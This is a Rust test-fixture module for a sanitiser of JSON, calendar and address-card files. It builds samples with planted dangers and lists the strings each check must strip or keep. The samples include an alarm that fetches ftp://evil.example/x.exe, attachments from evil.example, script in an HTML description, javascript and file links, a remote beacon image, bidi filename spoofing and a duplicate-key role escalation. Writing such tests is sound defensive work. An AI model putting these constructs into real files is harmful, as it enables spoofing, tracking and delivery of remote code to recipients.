//! JSON, calendars and address cards: what a town hall is sent, one planter per danger and disguise, broken ones.

use crate::html::base64;
use crate::{Planted, Planter};

fn planted(name: &str, bytes: impl Into<Vec<u8>>, gone: &[&str], kept: &[&str]) -> Planted {
    let list = |l: &[&str]| l.iter().map(|s| s.as_bytes().to_vec()).collect();
    Planted { name: name.to_owned(), bytes: bytes.into(), gone: list(gone), kept: list(kept) }
}

/// A calendar of one event around lines of ours (each with its line end).
pub fn calendar(lines: &str) -> Vec<u8> {
    format!("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//town//test//JA\r\nBEGIN:VEVENT\r\nUID:1@example.jp\r\nDTSTAMP:20261122T010000Z\r\nDTSTART;TZID=Asia/Tokyo:20261201T133000\r\nSUMMARY:説明会\r\n{lines}END:VEVENT\r\nEND:VCALENDAR\r\n").into_bytes()
}

/// An address card around lines of ours.
pub fn card(version: &str, lines: &str) -> Vec<u8> {
    format!("BEGIN:VCARD\r\nVERSION:{version}\r\nN:山田;太郎;;;\r\nFN:山田 太郎\r\n{lines}END:VCARD\r\n").into_bytes()
}

macro_rules! plant {
    ($($rule:literal, $shape:literal, $name:literal, $bytes:expr, [$($gone:expr),*], [$($kept:expr),*];)*) => {
        /// Every planter of this family.
        pub fn planters() -> Vec<Planter> {
            vec![$(Planter { rule: $rule, shape: $shape, plant: || planted($name, $bytes, &[$($gone),*], &[$($kept),*]) },)*]
        }
    };
}

plant! {
    "text.bidi-control", "obfuscated: escaped in JSON", "逆順.json", "{\"名前\": \"請求書\\u202Efdp.exe\", \"次\": 1.50}", ["\\u202", "\u{202E}"], ["請求書fdp.exe", "1.50"];
    "text.terminal-escape", "obfuscated: escaped in JSON", "端末.json", "[\"\\u001b[31m赤\\u001b[0m\"]", ["u001b", "[31m"], ["赤"];
    "text.invisible-character", "obfuscated: in a key of JSON", "鍵.json", "{\"a\u{200B}b\":null}", ["\u{200B}"], ["\"ab\":null"];
    "card.alarm", "plain: a procedure", "手続.ics", calendar("BEGIN:VALARM\r\nTRIGGER:-PT10M\r\nACTION:PROCEDURE\r\nATTACH;FMTTYPE=application/binary:ftp://evil.example/x.exe\r\nEND:VALARM\r\nLOCATION:大会議室\r\n"), ["PROCEDURE", "VALARM", "evil.example"], ["SUMMARY:説明会", "LOCATION:大会議室"];
    "card.alarm", "obfuscated: lower case, folded, of the old calendar", "音声.ics", calendar("begin:valarm\r\naction:au\r\n dio\r\ntrigger:-PT5M\r\nend:valarm\r\nAALARM;TYPE=WAVE;VALUE=URL:19960415T235959; ; ; file:///mmedia/taps.wav\r\n"), ["audio", "AUDIO", "valarm", "taps.wav"], ["SUMMARY:説明会"];
    "card.attachment", "plain: Base64 and a place", "添付.ics", calendar("ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.exe:TVqQAAMAAAAE\r\nATTACH:http://evil.example/a.exe\r\n"), ["TVqQ", "a.exe", "evil.example"], ["SUMMARY:説明会"];
    "card.attachment", "obfuscated: folded name, binary value of another property", "添付2.ics", calendar("AT\r\n TACH:http://evil.example/a.exe\r\nCOMMENT;ENCODING=BASE64:TVqQAAMAAAAE\r\n"), ["TVqQ", "a.exe"], ["SUMMARY:説明会"];
    "card.attachment", "plain: sound, key, agent and a photo that is none", "名刺.vcf", card("3.0", "SOUND;ENCODING=b;TYPE=BASIC:TVqQAAMAAAAE\r\nKEY;ENCODING=b:S0VZS0VZ\r\nPHOTO;ENCODING=b;TYPE=JPEG:TVqQAAMAAAAE\r\nTEL;TYPE=WORK,VOICE:03-1234-5678\r\n"), ["TVqQ", "S0VZ", "SOUND", "PHOTO"], ["TEL;TYPE=WORK,VOICE:03-1234-5678", "FN:山田 太郎"];
    "card.attachment", "obfuscated: a card as the agent within a card", "代理.vcf", card("2.1", "AGENT:\r\nBEGIN:VCARD\r\nVERSION:2.1\r\nN:GONE;AGENT\r\nEND:VCARD\r\nNOTE:後\r\n").into_iter().collect::<Vec<u8>>(), ["GONE", "AGENT"], ["NOTE:後"];
    "card.extension", "plain: properties and components of one program", "独自.ics", calendar("X-MS-OLK-FORCEINSPECTOROPEN:TRUE\r\nX-EVIL:GONE-VALUE\r\nBEGIN:X-PART\r\nX-IN:GONE-INSIDE\r\nEND:X-PART\r\n"), ["X-MS-OLK", "GONE", "X-PART"], ["SUMMARY:説明会"];
    "card.extension", "obfuscated: lower case, in a group", "独自.vcf", card("3.0", "item1.x-evil;TYPE=a:GONE-VALUE\r\nNOTE:残る\r\n"), ["GONE", "evil"], ["NOTE:残る"];
    "card.html-text", "plain: X-ALT-DESC", "書式.ics", calendar("DESCRIPTION:本文\r\nX-ALT-DESC;FMTTYPE=text/html:<html><script>evil()</script></html>\r\n"), ["script", "ALT-DESC"], ["DESCRIPTION:本文"];
    "card.link", "plain: schemes that run, addresses that are fetched", "場所.ics", calendar("URL:file://evil.example/share\r\nORGANIZER;DIR=\"ldap://evil.example/x\";CN=山田:mailto:a@example.jp\r\nDESCRIPTION;ALTREP=\"http://evil.example/\":本文\r\n"), ["evil.example", "ALTREP", "DIR="], ["ORGANIZER;CN=山田:mailto:a@example.jp", "DESCRIPTION:本文"];
    "card.link", "obfuscated: case, escaped colon, a photo elsewhere", "場所.vcf", card("4.0", "URL:JavaScript\\:evil()\r\nPHOTO;MEDIATYPE=image/png:http://evil.example/beacon.png\r\nTEL;VALUE=uri:skype:evil?call\r\nURL:https://www.city.example.jp/\r\n"), ["evil", "PHOTO"], ["URL:https://www.city.example.jp/"];
    "card.recurrence", "plain: every second", "繰返.ics", calendar("RRULE:FREQ=SECONDLY;INTERVAL=1\r\n"), ["RRULE", "SECONDLY"], ["SUMMARY:説明会"];
    "card.recurrence", "obfuscated: lower case, many minutes of a day", "繰返2.ics", calendar("rrule:freq=daily;byminute=0,1,2,3,4,5\r\n"), ["rule", "byminute"], ["SUMMARY:説明会"];
}

/// Clean files of this family, as `format-id/name` and content.
pub fn clean() -> Vec<(String, Vec<u8>)> {
    let json = "{\n  \"団体コード\": \"011002\",\n  \"人口\": 1973395,\n  \"率\": [1.50, -0.0, 1e-7, 12345678901234567890],\n  \"備考\": \"①㈱\\t\\\"引用\\\"\\\\n\\n<b>\",\n  \"空\": {},\n  \"無\": null,\n  \"真\": true\n}\r\n";
    let events = "BEGIN:VCALENDAR\r\nPRODID:-//Example//JA\r\nVERSION:2.0\r\nCALSCALE:GREGORIAN\r\nMETHOD:REQUEST\r\nX-WR-CALNAME:会議室予約\r\nBEGIN:VTIMEZONE\r\nTZID:Tokyo Standard Time\r\nBEGIN:STANDARD\r\nDTSTART:16010101T000000\r\nTZOFFSETFROM:+0900\r\nTZOFFSETTO:+0900\r\nEND:STANDARD\r\nEND:VTIMEZONE\r\nBEGIN:VEVENT\r\nUID:040000008200E00074C5B7101A82E008@example.jp\r\nDTSTAMP:20261122T010000Z\r\nORGANIZER;CN=山田 太郎:mailto:yamada@city.example.jp\r\nATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=\r\n TRUE;CN=\"鈴木, 花子\":mailto:suzuki@city.example.jp\r\nDTSTART;TZID=Tokyo Standard Time:20261201T133000\r\nDTEND;TZID=Tokyo Standard Time:20261201T150000\r\nRRULE:FREQ=WEEKLY;COUNT=4;BYDAY=TU\r\nEXDATE;TZID=Tokyo Standard Time:20261215T133000\r\nSUMMARY:説明会\\, 第１回\r\nDESCRIPTION:議題\\n１．予算\\n２．その他\\; 資料は当日\r\nLOCATION:大会議室\r\nCATEGORIES:会議,重要\r\nURL:https://www.city.example.jp/kaigi?id=1\r\nX-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE\r\nBEGIN:VALARM\r\nTRIGGER:-PT15M\r\nACTION:DISPLAY\r\nDESCRIPTION:Reminder\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    let four = "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:髙橋 花子\r\nN:髙橋;花子;;;\r\nX-PHONETIC-LAST-NAME:たかはし\r\nTEL;TYPE=work,voice;VALUE=URI:tel:+81-3-1234-5678\r\nitem1.EMAIL;TYPE=work:hanako@city.example.jp\r\nitem1.X-ABLABEL:職場\r\nADR:;;千代田１−２;千代田区;東京都;100-0001;日本\r\nORG:例示市;総務課\r\nNOTE:窓口\\, 平日\\n８時半から\r\nUID:urn:uuid:f81d4fae-7dec-11d0-a765-00a0c91e6bf6\r\nURL:https://www.city.example.jp/\r\nEND:VCARD\r\n";
    vec![
        ("json/人口.json".to_owned(), json.into()),
        ("calendar/会議.ics".to_owned(), events.into()),
        ("vcard/名刺.vcf".to_owned(), four.into()),
    ]
}

/// A card as Japanese phones write it: vCard 2.1, Shift_JIS in quoted-printable with soft line breaks, the reading of the name as
/// a sound, and a picture in Base64 that ends with an empty line. 山田 8E 52 93 63, 太郎 91 BE 98 59, ﾔﾏﾀﾞ D4 CF C0 DE, ﾀﾛｳ C0 DB B3.
pub fn phone_card(picture: &[u8]) -> Vec<u8> {
    format!("BEGIN:VCARD\r\nVERSION:2.1\r\nN;CHARSET=SHIFT_JIS;ENCODING=QUOTED-PRINTABLE:=8E=52=93=63;=91=BE=\r\n=98=59\r\nSOUND;X-IRMC-N;CHARSET=SHIFT_JIS;ENCODING=QUOTED-PRINTABLE:=D4=CF=C0=DE;=C0=DB=B3\r\nTEL;CELL;VOICE:09012345678\r\nPHOTO;ENCODING=BASE64;PNG:\r\n {}\r\n\r\nEND:VCARD\r\n", base64(picture)).into_bytes()
}

/// Broken files of this family that must be refused.
pub fn bad() -> Vec<(String, Vec<u8>)> {
    vec![
        ("json/切れた.json".to_owned(), b"{\"a\": [1, 2".to_vec()),
        ("json/二度の鍵.json".to_owned(), b"{\"role\": \"user\", \"r\\u006fle\": \"admin\"}".to_vec()),
        ("json/深い.json".to_owned(), b"[".repeat(2_000)),
        ("json/半分の文字.json".to_owned(), b"[\"\\ud83d\"]".to_vec()),
        ("json/後ろに何か.json".to_owned(), b"{} {}".to_vec()),
        ("json/緩い書き方.json".to_owned(), b"{a: 'x', // comment\n}".to_vec()),
        ("calendar/切れた.ics".to_owned(), b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\n".to_vec()),
        (
            "calendar/入れ違い.ics".to_owned(),
            b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nEND:VCALENDAR\r\nEND:VEVENT\r\n".to_vec(),
        ),
        ("calendar/日付でない.ics".to_owned(), calendar("DTEND:<tomorrow>\r\n")),
        ("calendar/深い.ics".to_owned(), b"BEGIN:VCALENDAR\r\n".repeat(200)),
        ("vcard/版がない.vcf".to_owned(), b"BEGIN:VCARD\r\nFN:x\r\nEND:VCARD\r\n".to_vec()),
        ("vcard/壊れた引用.vcf".to_owned(), card("2.1", "NOTE;ENCODING=QUOTED-PRINTABLE:=8\r\n")),
        ("vcard/行でない.vcf".to_owned(), card("3.0", "not a line\r\n")),
    ]
}
